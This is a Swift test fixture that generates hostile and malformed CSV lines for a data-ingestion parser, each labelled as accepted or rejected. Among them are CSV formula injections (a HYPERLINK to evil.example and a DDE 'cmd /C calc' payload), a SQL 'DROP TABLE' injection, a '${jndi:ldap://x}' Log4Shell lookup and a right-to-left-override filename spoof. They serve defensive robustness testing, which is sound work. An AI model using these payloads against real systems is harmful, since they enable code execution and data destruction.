/// Ten thousand lines nobody wants in a file, each kind as often as the others, with good ones between them.
struct HostileLines {
    /// What ought to become of a line.
    enum Fate {
        case accepted, rejected
    }

    private(set) var bytes: [UInt8] = Array("id,name,note,at\n".utf8)
    private(set) var accepted = 0
    private(set) var rejected = 0
    static let count = 10_000

    init(_ random: inout SplitMix) {
        for line in 0..<HostileLines.count {
            let (text, fate) = HostileLines.line(line, &random)
            bytes += text
            bytes.append(UInt8(ascii: "\n"))
            if fate == .accepted { accepted += 1 } else { rejected += 1 }
            // Behind an open quote a good line must still be read.
            bytes += Array("good-\(line),visit,fine,2026-01-05T08:00:00Z\n".utf8)
            accepted += 1
        }
    }

    private static func line(_ line: Int, _ random: inout SplitMix) -> ([UInt8], Fate) {
        let good = "2026-01-05T08:00:00Z"
        let kinds: [(String, Fate)] = [
            ("\(line),\"cut off,note,\(good)", .rejected),
            ("\(line),name,\"closed\"early,\(good)", .rejected),
            ("\(line),nul\u{0},note,\(good)", .rejected),
            ("\(line),too,few", .rejected),
            ("\(line),too,many,fields,\(good),here", .rejected),
            ("\(line),name,=HYPERLINK(\"\"http://evil.example\"\"),\(good)", .accepted),
            ("\(line),name,\"=HYPERLINK(\"\"http://evil.example\"\")\",\(good)", .accepted),
            ("\(line),@SUM(1+1)*cmd|' /C calc'!A0,-2+3,\(good)", .accepted),
            ("\(line),name,note,9999-99-99", .rejected),
            ("\(line),name,note,2026-02-30T00:00:00Z", .rejected),
            ("\(line),name,note,-271821-04-20T00:00:00Z", .rejected),
            ("\(line),name,note,99999999999999999999999", .rejected),
            ("\(line),name,note,٢٠٢٦-٠١-٠٥", .rejected),
            (",name,note,\(good)", .rejected),
            ("\(line),,note,\(good)", .rejected),
            ("\u{1}\u{2},name,note,\(good)", .rejected),
            ("reused,name,note-\(line),\(good)", line < 21 ? .accepted : .rejected),
            ("\(line),\u{202E}gnp.exe\u{200B},\u{1F469}\u{200D}\u{1F680},\(good)", .accepted),
            ("\(line),'; DROP TABLE fact; --,${jndi:ldap://x},\(good)", .accepted),
        ]
        switch line % (kinds.count + 2) {
        case 0: return (Array("\(line),".utf8) + [0xC0, 0xAF, 0xFF] + Array(",note,\(good)".utf8), .rejected)
        case 1: return (Array("\(line),".utf8) + noise(&random) + Array(",note,\(good)".utf8), .rejected)
        case let kind:
            let (text, fate) = kinds[kind - 2]
            return (Array(text.utf8), fate)
        }
    }

    /// Any bytes but those that would make a record of their own or mend it by chance; always one that is not UTF-8.
    private static func noise(_ random: inout SplitMix) -> [UInt8] {
        let bytes = (0..<Int.random(in: 1...60, using: &random)).map { _ in
            UInt8.random(in: 0x20...0xFF, using: &random)
        }
        return bytes.filter { $0 != 0x22 && $0 != 0x2C } + [0xFE]
    }

    static let mapping = """
        mapping: 1
        source: web
        csv: {encoding: utf-8}
        facts:
          - fact: activity
            object: visit
            id: id
            at: at
            name: name
            person: {anonymous: id}
            with: [note]

        """
}
